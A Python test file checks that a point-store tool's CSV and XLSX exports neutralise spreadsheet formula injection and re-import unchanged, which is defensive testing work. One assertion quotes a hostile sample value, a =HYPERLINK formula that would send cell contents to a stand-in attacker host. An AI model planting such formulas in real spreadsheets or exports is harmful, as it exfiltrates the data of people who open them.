"""Exports never carry a live formula (issue 9, item 4; OWASP "CSV injection"), and read back unchanged.

CSV: text beginning with =, +, -, @, tab or CR gets a leading apostrophe. XLSX: every text cell is a string cell
(no <f> element anywhere in the sheet). Importing either file again gives the names exactly as stored."""
from __future__ import annotations

import csv
import io
import zipfile

import dbfile
import hostile
import openpyxl
import pandas as pd
import pytest

from loaders import cli, export
from loaders.cells import FORMULA_START
from loaders.editing import Editor
from loaders.filters import Filter
from loaders.importing import build_plan, commit, read
from loaders.store import GeoPackageStore

FORMULAS = [n for n in hostile.NAMES if hostile.stored(n).startswith(FORMULA_START)]


def test_the_corpus_holds_formulas():
    assert len(FORMULAS) >= 3 and any(n.startswith("=HYPERLINK") for n in FORMULAS)


def test_csv_export_neutralises_every_formula_cell(hostile_store_path, tmp_path):
    out = tmp_path / "points.csv"
    assert cli.main(["export", "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c.startswith(FORMULA_START)]  # nothing Excel would run
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" in {row["名称"] for row in rows}


def test_xlsx_export_writes_text_as_strings_never_formulas(hostile_store_path, tmp_path):
    out = tmp_path / "points.xlsx"
    assert cli.main(["export", "--format", "xlsx", "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    cells = openpyxl.load_workbook(out)["点位"]
    names = [c for c in cells["C"] if isinstance(c.value, str) and c.value.startswith("=")]
    assert names and all(c.data_type == "s" for c in names)


def test_xlsx_export_of_a_store_written_before_cleaning_drops_invisible_characters(store_path, tmp_path):
    # An older store may hold a control character XML cannot carry; the export still opens, minus the invisible.
    with dbfile.connect(store_path) as c:
        c.execute("UPDATE points SET external_id = 'HJ\x01-9', name = '旧' || char(11) || '名' WHERE id = "
                  "(SELECT MIN(id) FROM points)")
    out = tmp_path / "points.xlsx"
    assert cli.main(["export", "--format", "xlsx", "--out", str(out)]) == 0
    sheet = openpyxl.load_workbook(out)["点位"]
    values = {c.value for row in sheet.iter_rows() for c in row}
    assert "HJ-9" in values and "旧名" in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_unchanged(hostile_store_path, tmp_path, fmt):
    store = GeoPackageStore(hostile_store_path)
    points = store.points()
    data = export.export_bytes(points, fmt, store.units())
    plan = build_plan(read(data, f"导出.{fmt}"), store)
    assert plan.problems.empty, plan.report_lines()[:5]
    assert sorted(plan.good["name"]) == sorted(points["name"])
    assert set(plan.good["action"]) == {"unchanged"}  # same kind, name and position: nothing to write


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_staff_edit_an_export_in_excel_and_import_it_back(store, tmp_path, fmt):
    """The desk round trip: export, change one status in the spreadsheet, import: that point is updated (matched
    by its own 编号), every other row is unchanged, nothing is duplicated."""
    points = store.points(Filter(kinds=("issue",)))
    data = export.export_bytes(points, fmt, store.units())
    target = points[points["status"] == "协商中"].iloc[0]
    if fmt == "csv":
        frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
        frame.loc[frame["编号"] == target["id"], "状态"] = "已解决"
        data = frame.to_csv(index=False).encode("utf-8-sig")
    else:
        book = openpyxl.load_workbook(io.BytesIO(data))
        sheet = book["点位"]
        header = [c.value for c in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            if row[header.index("编号")].value == target["id"]:
                row[header.index("状态")].value = "已解决"
        buffer = io.BytesIO()
        book.save(buffer)
        data = buffer.getvalue()
    plan = build_plan(read(data, f"修改后.{fmt}"), store)
    assert plan.problems.empty, plan.report_lines()[:3]
    assert plan.mapping["point_id"] == "编号" and plan.mapping["external_id"] == "外部编号"
    assert plan.counts()["update"] == 1 and plan.counts()["new"] == 0
    result = commit(Editor(store, plan.user), plan)
    assert result.updated == [target["id"]] and not result.created
    assert store.point(target["id"])["status"] == "已解决" and len(store.points()) == 113
